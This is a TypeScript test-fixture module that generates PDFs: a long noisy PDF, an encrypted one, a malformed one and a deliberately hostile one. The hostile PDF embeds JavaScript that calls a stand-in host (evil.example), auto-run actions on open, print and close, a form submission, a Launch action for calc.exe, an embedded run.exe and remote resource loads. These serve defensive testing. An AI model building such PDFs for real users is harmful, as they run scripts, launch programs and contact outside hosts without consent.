// PDF files, valid and hostile.
import { randomBytes } from 'node:crypto';
import { assemblePdf } from '@questline/db/seed/build/tiny-pdf.ts';

const stream = (text: string, entries = '') =>
  `<< ${entries}/Length ${text.length} >>\nstream\n${text}\nendstream`;
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Each page has a colored bar, a number and 77 kB of noise as an image. What is on the pages comes after all pages, so
 *  that one can be found without reading the others. */
export function longPdf(pages: number): Buffer<ArrayBuffer> {
  const first = 4;
  const numbers = Array.from({ length: pages }, (_, i) => i);
  const [contentOf, imageOf] = [
    (i: number) => first + pages + 2 * i,
    (i: number) => first + pages + 2 * i + 1,
  ];
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${numbers.map((i) => `${first + i} 0 R`).join(' ')}] /Count ${pages} >>`,
    font,
    ...numbers.map(
      (i) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contentOf(i)} 0 R
        /Resources << /Font << /F1 3 0 R >> /XObject << /I ${imageOf(i)} 0 R >> >> >>`,
    ),
    ...numbers.flatMap((i) => [
      stream(
        `0.04 0.42 0.29 rg 0 742 595 100 re f
        BT 1 1 1 rg /F1 40 Tf 48 776 Td (What neighbor ${i + 1} said) Tj ET
        q 300 0 0 300 48 300 cm /I Do Q`,
      ),
      stream(
        randomBytes(160 * 160 * 3).toString('latin1'),
        '/Type /XObject /Subtype /Image /Width 160 /Height 160 /ColorSpace /DeviceRGB /BitsPerComponent 8 ',
      ),
    ]),
  ]);
}

const evil = 'https://evil.example';
const script = (words: string) =>
  `<< /S /JavaScript /JS (app.alert("${words}"); app.launchURL("${evil}/js"); fetch("${evil}/fetch")) >>`;

/** Tries to run scripts, start programs, open pages, submit a form and load an image and a file from elsewhere. The whole
 *  page is a link. */
export const hostilePdf = (): Buffer<ArrayBuffer> =>
  assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('opened')}
      /AA << /WC ${script('closed')} /WP ${script('printed')} >>
      /AcroForm << /Fields [7 0 R] /NeedAppearances true /XFA 10 0 R >>
      /Names << /JavaScript << /Names [(a) ${script('named')}] >> /EmbeddedFiles << /Names [(run.exe) 9 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] /Contents 4 0 R /Annots [6 0 R 7 0 R 8 0 R 11 0 R]
      /AA << /O ${script('page opened')} >>
      /Resources << /Font << /F1 5 0 R >> /XObject << /I 12 0 R >> >> >>`,
    stream('BT /F1 24 Tf 40 320 Td (Please click here) Tj ET q 100 0 0 100 40 40 cm /I Do Q'),
    font,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /URI /URI (${evil}/link) >> >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (typed) /Rect [40 200 200 230] /DA (/F1 12 Tf 0 g)
      /AA << /C ${script('calculated')} /K ${script('typed')} >>
      /A << /S /SubmitForm /F << /FS /URL /F (${evil}/form) >> >> >>`,
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Launch /F (calc.exe) >> >>',
    `<< /Type /Filespec /F (run.exe) /EF << /F 4 0 R >> >>`,
    stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>`,
    ),
    `<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /GoToR /F << /FS /URL /F (${evil}/other.pdf) >> /D [0 /Fit] >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 0
      /F << /FS /URL /F (${evil}/image) >> >>\nstream\n\nendstream`,
  ]);

/** Needs a password that nobody has. */
export const lockedPdf = (): Buffer<ArrayBuffer> => {
  const key = 'ab'.repeat(32);
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 400] >>',
      `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${key}> /U <${key}> >>`,
    ],
    `/Encrypt 4 0 R /ID [<${key}> <${key}>] `,
  );
};

export const brokenPdf = (): Buffer<ArrayBuffer> =>
  Buffer.from(`%PDF-1.7\n${'nothing that follows is a PDF\n'.repeat(50)}`);
